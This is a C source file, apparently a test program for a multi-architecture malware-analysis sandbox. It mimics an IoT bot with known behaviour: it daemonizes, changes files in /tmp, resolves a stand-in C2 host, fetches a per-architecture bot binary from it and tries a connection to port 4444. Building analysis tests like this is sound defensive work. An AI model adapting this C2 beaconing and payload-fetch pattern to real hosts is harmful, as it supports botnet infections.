/* AASEE multi-architecture test program: what an IoT bot does, with known values, built
 * statically for every guest architecture by the tests.
 *
 * The parent forks a child that daemonizes (double fork + setsid): the grandchild writes
 * /tmp/iot-daemon.txt, then sleeps LATE seconds (argv[1], default 0) and writes
 * /tmp/iot-late.txt (the delayed act a short run sees only if guest idle time is skipped).
 * The parent writes, renames, chmods and deletes files, resolves c2.iot-test.example with a
 * DNS query of its own (static binaries cannot rely on the C library's NSS), fetches
 * http://c2.iot-test.example/bot.<arch> from the address it got, and tries a TCP connect to
 * 198.51.100.7:4444. Exit code 7. No libc resolver, no threads: it runs on any kernel. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef ARCH_NAME
#define ARCH_NAME "unknown"
#endif

static void write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { write(fd, text, strlen(text)); close(fd); }
}

static in_addr_t nameserver(void) {
    char line[256];
    in_addr_t addr = inet_addr("10.0.2.3");
    FILE *f = fopen("/etc/resolv.conf", "r");
    if (!f) return addr;
    while (fgets(line, sizeof line, f)) {
        char ip[64];
        if (sscanf(line, "nameserver %63s", ip) == 1) { addr = inet_addr(ip); break; }
    }
    fclose(f);
    return addr;
}

/* One A query for NAME; returns the first IPv4 answer or INADDR_NONE. */
static in_addr_t resolve(const char *name) {
    unsigned char query[512], reply[512];
    int n = 0;
    query[n++] = 0x12; query[n++] = 0x34;  /* id */
    query[n++] = 0x01; query[n++] = 0x00;  /* recursion desired */
    query[n++] = 0; query[n++] = 1;        /* one question */
    memset(query + n, 0, 6); n += 6;
    const char *label = name;
    while (*label) {
        const char *dot = strchr(label, '.');
        int len = dot ? (int)(dot - label) : (int)strlen(label);
        query[n++] = (unsigned char)len;
        memcpy(query + n, label, len); n += len;
        label += len + (dot ? 1 : 0);
    }
    query[n++] = 0;
    query[n++] = 0; query[n++] = 1;  /* A */
    query[n++] = 0; query[n++] = 1;  /* IN */
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval tv = {5, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    struct sockaddr_in dns = {0};
    dns.sin_family = AF_INET;
    dns.sin_port = htons(53);
    dns.sin_addr.s_addr = nameserver();
    sendto(s, query, n, 0, (struct sockaddr *)&dns, sizeof dns);
    int got = recv(s, reply, sizeof reply, 0);
    close(s);
    if (got < 12) return INADDR_NONE;
    int answers = reply[6] << 8 | reply[7];
    int i = 12;
    while (i < got && reply[i]) i += reply[i] + 1;  /* question name */
    i += 5;                                          /* root, type, class */
    while (answers-- > 0 && i + 12 <= got) {
        if ((reply[i] & 0xc0) == 0xc0) i += 2; else { while (i < got && reply[i]) i += reply[i] + 1; i++; }
        int type = reply[i] << 8 | reply[i + 1];
        int rdlen = reply[i + 8] << 8 | reply[i + 9];
        i += 10;
        if (type == 1 && rdlen == 4 && i + 4 <= got) {
            in_addr_t addr;
            memcpy(&addr, reply + i, 4);
            return addr;
        }
        i += rdlen;
    }
    return INADDR_NONE;
}

static void fetch(in_addr_t addr, const char *host, const char *path) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {0};
    to.sin_family = AF_INET;
    to.sin_port = htons(80);
    to.sin_addr.s_addr = addr;
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) {
        char request[256], answer[64] = {0};
        snprintf(request, sizeof request,
                 "GET %s HTTP/1.0\r\nHost: %s\r\nUser-Agent: iotbot/" ARCH_NAME "\r\n\r\n",
                 path, host);
        write(s, request, strlen(request));
        int got = read(s, answer, sizeof answer - 1);
        printf("http: %d bytes, %.12s\n", got, answer);
    } else {
        printf("http: connect failed\n");
    }
    close(s);
}

int main(int argc, char **argv) {
    unsigned late = argc > 1 ? (unsigned)atoi(argv[1]) : 0;
    printf("iotbehaviour " ARCH_NAME ": parent pid %d\n", getpid());
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        if (fork() != 0) _exit(0);
        setsid();
        char text[64];
        snprintf(text, sizeof text, "daemon %d\n", getpid());
        write_file("/tmp/iot-daemon.txt", text);
        if (late) {
            sleep(late);
            write_file("/tmp/iot-late.txt", "late\n");
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);
    write_file("/tmp/iot-written.txt", "written\n");
    write_file("/tmp/iot-deleted.txt", "to be deleted\n");
    unlink("/tmp/iot-deleted.txt");
    rename("/tmp/iot-written.txt", "/tmp/iot-renamed.txt");
    chmod("/tmp/iot-renamed.txt", 0600);

    const char *host = "c2.iot-test.example";
    in_addr_t c2 = resolve(host);
    struct in_addr shown = {c2};
    printf("dns: %s -> %s\n", host, c2 == INADDR_NONE ? "none" : inet_ntoa(shown));
    if (c2 != INADDR_NONE) fetch(c2, host, "/bot." ARCH_NAME);

    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr = {0};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(4444);
    inet_pton(AF_INET, "198.51.100.7", &addr.sin_addr);
    int rc = connect(s, (struct sockaddr *)&addr, sizeof addr);
    printf("connect: %d\n", rc);
    fflush(stdout);
    return 7;
}
